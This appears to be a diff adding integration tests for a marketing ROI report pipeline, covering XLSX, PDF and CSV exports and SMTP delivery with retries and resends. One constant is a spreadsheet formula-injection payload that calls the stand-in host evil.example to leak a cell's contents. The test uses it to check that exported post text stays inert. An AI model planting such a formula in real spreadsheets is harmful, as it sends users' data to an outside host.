@@ -1,0 +1,411 @@
+"""Report exports from a real published warehouse (the `roi_env` sandbox world, run date
+2026-11-20): the XLSX holds the marts' figures, the PDF renders, the CSV extracts are the marts'
+rows, and delivery through a real SMTP server on loopback is once per period, retried when the
+send fails, and resendable."""
+
+from __future__ import annotations
+
+import csv
+import logging
+import shutil
+from datetime import UTC, date, datetime
+from pathlib import Path
+
+import duckdb
+import openpyxl
+import pypdfium2
+import pytest
+
+from pipeline.config import load_config
+from pipeline.paths import DataPaths
+from reports import tasks
+from reports.build import build_report
+from reports.charts import CHANNEL_COLOURS
+from reports.deliveries import SENT, SKIPPED_NO_DATA, deliveries, done
+from reports.delivery import ReportDeliveryError
+from reports.periods import ReportPeriod
+
+pytestmark = pytest.mark.integration
+
+OCTOBER = ReportPeriod(date(2026, 10, 1), date(2026, 10, 31), "month", 1)
+SEPTEMBER = ReportPeriod(date(2026, 9, 1), date(2026, 9, 30), "month", 1)
+WEEK = ReportPeriod(date(2026, 11, 9), date(2026, 11, 15), "week", 1)
+# Monday 16 Nov 2026, 07:05 in Chicago: the weekly run (9-15 Nov) and the monthly one (October) are due.
+MONDAY_RUN = datetime(2026, 11, 16, 13, 5, tzinfo=UTC)
+TOP_POST_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"Book a flu shot")'
+
+
+@pytest.fixture(scope="module")
+def config():
+    return load_config()
+
+
+def definition(config, name):
+    return next(report for report in config.reports if report.name == name)
+
+
+@pytest.fixture(scope="module")
+def warehouse(roi_env):
+    paths, ctx = roi_env
+    assert ctx.partition_date == date(2026, 11, 20)
+    return paths.published_warehouse
+
+
+def query(warehouse: Path, sql: str, params=None) -> list[tuple]:
+    with duckdb.connect(str(warehouse), read_only=True) as connection:
+        return connection.execute(sql, params or []).fetchall()
+
+
+@pytest.fixture(scope="module")
+def monthly(warehouse, config, tmp_path_factory):
+    return build_report(
+        definition(config, "monthly_marketing_roi"), OCTOBER, warehouse, tmp_path_factory.mktemp("reports"), config
+    )
+
+
+@pytest.fixture(scope="module")
+def weekly(warehouse, config, tmp_path_factory):
+    return build_report(
+        definition(config, "weekly_social_performance"), WEEK, warehouse, tmp_path_factory.mktemp("reports"), config
+    )
+
+
+def built_file(built, suffix: str) -> Path:
+    return next(path for path in built.files if path.name.endswith(suffix))
+
+
+def channel_keys(warehouse: Path) -> dict[str, str]:
+    return dict(query(warehouse, "select channel_name, channel from channels"))
+
+
+def approx_or_none(expected):
+    """A mart ratio as the workbook holds it: the number, or an empty cell where the mart has NULL."""
+    return None if expected is None else pytest.approx(float(expected), rel=1e-9)
+
+
+def sheet_rows(path: Path, sheet: str) -> list[tuple]:
+    return list(openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True))
+
+
+def by_header(rows: list[tuple], column: str) -> dict[str, object]:
+    index = rows[0].index(column)
+    return {row[0]: row[index] for row in rows[1:]}
+
+
+# --- XLSX -------------------------------------------------------------------------------------
+
+
+def test_xlsx_holds_the_marts_cpe_and_roi_per_channel_for_the_month(monthly, warehouse):
+    rows = sheet_rows(built_file(monthly, ".xlsx"), "Channels")
+    keys = channel_keys(warehouse)
+    cpe = dict(
+        query(
+            warehouse,
+            "select channel, sum(total_investment) / nullif(sum(engagements), 0) from mart_cost_per_engagement "
+            "where period_type = 'month' and period_start = ? group by channel",
+            [OCTOBER.start],
+        )
+    )
+    roi = {
+        channel: (value, zero)
+        for channel, value, zero in query(
+            warehouse,
+            "select channel, (sum(conversion_value) - sum(total_investment)) / nullif(sum(total_investment), 0), "
+            "sum(total_investment) = 0 from mart_roi where month_start = ? group by channel",
+            [OCTOBER.start],
+        )
+    }
+    xlsx_cpe, xlsx_roi = by_header(rows, "CPE"), by_header(rows, "ROI")
+    channels = {keys[name] for name in xlsx_cpe if name != "Total"}
+    assert channels == set(cpe) == set(roi)
+    assert {"facebook", "meta_ads", "tv"} <= channels
+    for name, value in xlsx_cpe.items():
+        if name == "Total":
+            continue
+        channel = keys[name]
+        assert value == approx_or_none(cpe[channel]), name
+        expected_roi, zero_investment = roi[channel]
+        if zero_investment:
+            assert xlsx_roi[name] == "\u221e (no spend)"
+        else:
+            assert xlsx_roi[name] == pytest.approx(float(expected_roi), rel=1e-9), name
+
+
+def test_xlsx_summary_totals_and_previous_period_match_the_marts(monthly, warehouse):
+    rows = sheet_rows(built_file(monthly, ".xlsx"), "Summary")
+    figures = {row[1]: (row[3], row[4], row[5]) for row in rows if row[1]}
+
+    def month(period):
+        return query(
+            warehouse,
+            "select sum(total_investment), sum(conversions), sum(conversion_value) from mart_roi where month_start = ?",
+            [period.start],
+        )[0]
+
+    investment, conversions, value = (float(v) for v in month(OCTOBER))
+    previous_investment, previous_conversions, _ = (float(v) for v in month(SEPTEMBER))
+    (engagements,) = query(
+        warehouse,
+        "select sum(engagements) from mart_cost_per_engagement where period_type = 'month' and period_start = ?",
+        [OCTOBER.start],
+    )[0]
+    assert figures["Investment"][0] == pytest.approx(investment, abs=0.005)
+    assert figures["Investment"][1] == pytest.approx(previous_investment, abs=0.005)
+    change = (investment - previous_investment) / previous_investment
+    assert figures["Investment"][2] == f"{change:+.1%}".replace("-", "\u2212")
+    assert figures["Conversions"][:2] == (conversions, previous_conversions)
+    assert figures["Cost per engagement (CPE)"][0] == pytest.approx(investment / float(engagements), rel=1e-9)
+    assert figures["ROI"][0] == pytest.approx((value - investment) / investment, rel=1e-9)
+    assert "compared with September 2026" in " ".join(str(cell) for row in rows[:4] for cell in row if cell)
+
+
+def test_xlsx_has_native_charts_in_channel_colours_formats_and_frozen_headers(monthly, warehouse):
+    book = openpyxl.load_workbook(built_file(monthly, ".xlsx"))
+    assert book.sheetnames[:5] == ["Summary", "Channels", "Social vs traditional", "Posts", "Definitions"]
+    assert {"data_channel_daily", "data_roi", "data_cost_per_engagement", "data_posts"} <= set(book.sheetnames)
+    charts = book["Summary"]._charts
+    assert [type(chart).__name__ for chart in charts] == ["BarChart", "BarChart"]
+    keys = channel_keys(warehouse)
+    names = [row[0] for row in book["Channels"].iter_rows(min_row=2, values_only=True) if row[0] != "Total"]
+    fills = [point.graphicalProperties.solidFill.srgbClr for point in charts[0].series[0].dPt]
+    assert fills == [CHANNEL_COLOURS[keys[name]].lstrip("#") for name in names]
+    assert book["Social vs traditional"]._charts
+    channels = book["Channels"]
+    assert channels.freeze_panes == "B2" and book["data_channel_daily"].freeze_panes == "A2"
+    header = [cell.value for cell in channels[1]]
+    assert channels.cell(2, header.index("CPE") + 1).number_format == "$#,##0.00"
+    assert channels.cell(2, header.index("ROI") + 1).number_format == "0.0%"
+    assert channels.column_dimensions["A"].width >= 20
+
+
+def test_weekly_filtered_report_matches_the_marts_week_rows_for_social_channels_only(weekly, warehouse):
+    rows = sheet_rows(built_file(weekly, ".xlsx"), "Channels")
+    keys = channel_keys(warehouse)
+    expected = dict(
+        query(
+            warehouse,
+            "select m.channel, sum(m.total_investment) / nullif(sum(m.engagements), 0) "
+            "from mart_cost_per_engagement as m join channels as c on m.channel = c.channel "
+            "where m.period_type = 'week' and m.period_start = ? "
+            "and c.channel_group in ('organic_social', 'paid_social') group by m.channel",
+            [WEEK.start],
+        )
+    )
+    cpe = {keys[name]: value for name, value in by_header(rows, "CPE").items() if name != "Total"}
+    assert set(cpe) == set(expected) and "tv" not in cpe
+    for channel, value in cpe.items():
+        assert value == approx_or_none(expected[channel]), channel
+    assert "data_roi" not in openpyxl.load_workbook(built_file(weekly, ".xlsx")).sheetnames, (
+        "no monthly mart in a weekly report"
+    )
+
+
+def test_top_posts_are_the_marts_most_engaging_posts_of_the_period(monthly, warehouse):
+    rows = sheet_rows(built_file(monthly, ".xlsx"), "Posts")
+    top = [row for row in rows[2:7]]
+    expected = query(
+        warehouse,
+        "select engagements from mart_social_posts where created_date between ? and ? order by engagements desc limit 5",
+        [OCTOBER.start, OCTOBER.end],
+    )
+    assert [row[4] for row in top] == [value for (value,) in expected]
+    assert [row[0] for row in top] == [1, 2, 3, 4, 5]
+
+
+# --- CSV and PDF -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("extract", "sql"),
+    [
+        ("channel_daily", "select count(*) from fct_channel_daily where date_day between $start and $end"),
+        (
+            "cost_per_engagement",
+            "select count(*) from mart_cost_per_engagement where period_type = 'month' and period_start = $start",
+        ),
+        ("roi", "select count(*) from mart_roi where month_start = $start"),
+        ("social_vs_traditional", "select count(*) from mart_social_vs_traditional where month_start = $start"),
+        ("posts", "select count(*) from mart_social_posts where created_date between $start and $end"),
+        ("source_freshness", "select count(*) from source_freshness"),
+    ],
+)
+def test_csv_extract_has_the_marts_rows_for_the_period(monthly, warehouse, extract, sql):
+    path = built_file(monthly, f"_{extract}.csv")
+    with open(path, newline="", encoding="utf-8-sig") as handle:
+        rows = list(csv.reader(handle))
+    with duckdb.connect(str(warehouse), read_only=True) as connection:
+        params = {name: value for name, value in (("start", OCTOBER.start), ("end", OCTOBER.end)) if f"${name}" in sql}
+        (expected,) = connection.execute(sql, params).fetchone()
+        columns = [d[0] for d in connection.execute(f"select * from {extract_source(extract)} limit 0").description]
+    assert expected > 0
+    assert len(rows) - 1 == expected
+    assert rows[0] == columns
+
+
+def extract_source(extract: str) -> str:
+    return {
+        "channel_daily": "fct_channel_daily",
+        "posts": "mart_social_posts",
+        "source_freshness": "source_freshness",
+    }.get(extract, f"mart_{extract}")
+
+
+def test_pdf_pages_render_to_images_that_are_not_blank(monthly, tmp_path):
+    document = pypdfium2.PdfDocument(str(built_file(monthly, ".pdf")))
+    assert 2 <= len(document) <= 4
+    for index, page in enumerate(document):
+        image = page.render(scale=1.5).to_pil().convert("RGB")
+        image.save(tmp_path / f"page{index + 1}.png")
+        grey = image.convert("L")
+        inked = sum(1 for value in grey.getdata() if value < 200) / (grey.width * grey.height)
+        assert inked > 0.01, f"page {index + 1} is blank"
+        text = page.get_textpage().get_text_range()
+        assert "CPE = investment / engagements" in text.replace("\r", " ").replace("\n", " "), "definitions footer"
+    first = document[0].get_textpage().get_text_range()
+    for expected in ("Monthly marketing ROI", "October 2026", "Cost per engagement", "ROI", "Data freshness"):
+        assert expected in first
+    # The charts draw each channel in its colour.
+    pixels = set(document[0].render(scale=1.5).to_pil().convert("RGB").getdata())
+    for channel in ("facebook", "tv", "meta_ads"):
+        assert tuple(int(CHANNEL_COLOURS[channel][i : i + 2], 16) for i in (1, 3, 5)) in pixels, channel
+    assert "Top posts" in document[2].get_textpage().get_text_range()
+
+
+def test_post_text_is_never_read_as_a_formula(warehouse, config, tmp_path):
+    copy = tmp_path / "marketing.duckdb"
+    shutil.copy(warehouse, copy)
+    with duckdb.connect(str(copy)) as connection:
+        (post_id,) = connection.execute(
+            "select post_id from mart_social_posts where created_date between ? and ? order by engagements desc limit 1",
+            [OCTOBER.start, OCTOBER.end],
+        ).fetchone()
+        connection.execute("update mart_social_posts set post_text = ? where post_id = ?", [TOP_POST_TEXT, post_id])
+    built = build_report(definition(config, "monthly_marketing_roi"), OCTOBER, copy, tmp_path / "out", config)
+
+    book = openpyxl.load_workbook(built_file(built, ".xlsx"))
+    cells = [cell for sheet in ("Posts", "data_posts") for row in book[sheet].iter_rows() for cell in row]
+    hits = [cell for cell in cells if cell.value == TOP_POST_TEXT]
+    assert len(hits) == 2
+    for cell in hits:
+        assert cell.data_type == "s" and cell.quotePrefix
+    assert not [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    with open(built_file(built, "_posts.csv"), newline="", encoding="utf-8-sig") as handle:
+        texts = [row[7] for row in csv.reader(handle)]
+    assert "'" + TOP_POST_TEXT in texts
+
+
+# --- delivery ----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def smtp(monkeypatch, mail_server):
+    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", mail_server.connection("reports@cedarvalleyhealth.org"))
+    return mail_server
+
+
+@pytest.fixture
+def data(warehouse, tmp_path) -> DataPaths:
+    """A data folder of its own (deliveries, copies, files) holding a copy of the published warehouse."""
+    paths = DataPaths(tmp_path / "data")
+    paths.warehouse_dir.mkdir(parents=True)
+    shutil.copy(warehouse, paths.published_warehouse)
+    return paths
+
+
+def run_reports(data: DataPaths, as_of=MONDAY_RUN, params=None) -> list[dict]:
+    jobs = tasks.plan(as_of, params, "scheduled__test", data)
+    for job in jobs:
+        tasks.deliver(tasks.build(job, data), "scheduled__test", data)
+    return jobs
+
+
+def test_due_reports_are_emailed_copied_and_recorded_once(smtp, data, config, caplog):
+    caplog.set_level(logging.DEBUG)
+    jobs = run_reports(data)
+    assert sorted((job["report"], job["period"]["start"]) for job in jobs) == [
+        ("monthly_marketing_roi", "2026-10-01"),
+        ("weekly_social_performance", "2026-11-09"),
+    ]
+    received = {message["Subject"]: (recipients, message) for recipients, message in smtp.messages}
+    assert set(received) == {
+        "Monthly marketing ROI, social and traditional: October 2026",
+        "Weekly social media performance: 9\u201315 Nov 2026",
+    }
+    recipients, message = received["Monthly marketing ROI, social and traditional: October 2026"]
+    monthly = definition(config, "monthly_marketing_roi")
+    assert sorted(recipients) == sorted(monthly.recipients)
+    attachments = {part.get_filename() for part in message.iter_attachments()}
+    folder = data.root / "shared" / "marketing-reports" / "monthly_marketing_roi" / OCTOBER.key
+    assert attachments == {path.name for path in folder.iterdir()}
+    assert {name.rsplit(".", 1)[1] for name in attachments} == {"pdf", "xlsx", "csv"}
+    body = message.get_body(("html",)).get_content()
+    assert "October 2026" in body and "compared with September 2026" in body and "Cost per engagement" in body
+
+    recorded = deliveries(data.landing)
+    assert sorted((d.report_name, d.period_start, d.status, d.trigger) for d in recorded) == [
+        ("monthly_marketing_roi", OCTOBER.start, SENT, "scheduled"),
+        ("weekly_social_performance", WEEK.start, SENT, "scheduled"),
+    ]
+    assert {d.message_id for d in recorded} == {message["Message-ID"] for _, message in smtp.messages}
+
+    # The run the Asset triggers after the next publish, and tomorrow's: nothing is sent twice.
+    assert run_reports(data) == []
+    assert run_reports(data, datetime(2026, 11, 20, 13, 0, tzinfo=UTC)) == []
+    assert len(smtp.messages) == 2 and len(deliveries(data.landing)) == 2
+
+    ours = "\n".join(record.getMessage() for record in caplog.records if not record.name.startswith("mail"))
+    assert "2 recipient(s)" in ours
+    for address in {*monthly.recipients, *definition(config, "weekly_social_performance").recipients}:
+        assert address not in ours
+
+
+def test_a_failed_send_records_nothing_and_the_retry_delivers_once(smtp, data, config, caplog):
+    params = {"report": "monthly_marketing_roi"}
+    (job,) = tasks.plan(MONDAY_RUN, params, "scheduled__test", data)
+    built = tasks.build(job, data)
+    smtp.refuse_next = 1
+    with pytest.raises(ReportDeliveryError) as caught:
+        tasks.deliver(built, "scheduled__test", data)
+    assert "SMTP 451" in str(caught.value) and "2 recipient(s)" in str(caught.value)
+    assert "@" not in str(caught.value)
+    assert caught.value.__cause__ is None and caught.value.__suppress_context__
+    assert smtp.messages == [] and deliveries(data.landing) == []
+    assert done(data.landing, "monthly_marketing_roi", OCTOBER) is None
+
+    # The task's retry: the same built files go out, and the period is recorded once.
+    tasks.deliver(built, "scheduled__test", data)
+    assert len(smtp.messages) == 1
+    assert [(d.period_start, d.status) for d in deliveries(data.landing)] == [(OCTOBER.start, SENT)]
+    assert tasks.plan(MONDAY_RUN, params, "scheduled__test", data) == []
+
+
+def test_resend_on_demand_sends_the_period_again_and_keeps_history(smtp, data):
+    run_reports(data)
+    params = {"resend": True, "report": "weekly_social_performance", "period_start": "2026-11-11"}
+    (job,) = run_reports(data, datetime(2026, 11, 20, 15, 0, tzinfo=UTC), params)
+    assert (job["period"]["start"], job["trigger"]) == ("2026-11-09", "resend")
+    assert smtp.messages[-1][1]["Subject"] == "Weekly social media performance: 9\u201315 Nov 2026 (resent)"
+    history = [(d.period_start, d.trigger) for d in deliveries(data.landing, "weekly_social_performance")]
+    assert history == [(WEEK.start, "scheduled"), (WEEK.start, "resend")]
+    with pytest.raises(Exception, match="no report named 'weekly'"):
+        tasks.plan(MONDAY_RUN, {"report": "weekly"}, "manual__test", data)
+    with pytest.raises(Exception, match="period_start '11/09/2026' is not a date"):
+        tasks.plan(MONDAY_RUN, {"report": "weekly_social_performance", "period_start": "11/09/2026"}, "m", data)
+
+
+def test_a_period_the_warehouse_does_not_cover_yet_waits(smtp, data):
+    # Monday 23 Nov: the week of 16-22 Nov is due, but the warehouse ends on the 20th.
+    jobs = run_reports(data, datetime(2026, 11, 23, 13, 5, tzinfo=UTC), {"report": "weekly_social_performance"})
+    assert jobs == [] and smtp.messages == [] and deliveries(data.landing) == []
+
+
+def test_a_period_without_data_is_skipped_and_recorded(smtp, data):
+    # 1 June 2026: May is covered by the warehouse's dates but has no activity (history starts later).
+    assert run_reports(data, datetime(2026, 6, 1, 13, 0, tzinfo=UTC)) == []
+    assert smtp.messages == []
+    assert {(d.report_name, d.status) for d in deliveries(data.landing)} == {
+        ("weekly_social_performance", SKIPPED_NO_DATA),
+        ("monthly_marketing_roi", SKIPPED_NO_DATA),
+    }
+    assert run_reports(data, datetime(2026, 6, 1, 13, 0, tzinfo=UTC)) == []
+    assert len(deliveries(data.landing)) == 2
